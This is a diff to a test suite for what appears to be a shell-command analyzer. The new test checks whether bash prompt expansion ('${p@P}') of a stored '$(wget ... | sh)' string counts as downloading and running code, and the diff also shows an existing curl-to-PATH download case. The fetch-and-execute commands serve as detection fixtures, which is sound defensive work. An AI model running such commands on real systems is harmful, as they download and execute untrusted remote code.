@@ -112,3 +112,9 @@ def test_bare_name_downloaded_into_a_path_directory_runs_the_download() -> None:
     assert not _downloaded(
         "curl -so ~/.local/bin/q https://example.invalid/q; chmod +x ~/.local/bin/q"
     )
+
+
+def test_prompt_expansion_runs_the_substitutions_in_the_value() -> None:
+    assert _downloaded("""p='$(wget -qO- https://example.invalid/p | sh)'; echo "${p@P}" """)
+    assert not _downloaded("""p='$(wget -qO- https://example.invalid/p | sh)'; echo "${p@Q}" """)
+    assert not analyze(r"""p='\\u@\\h \\w'; echo "${p@P}" """).executes
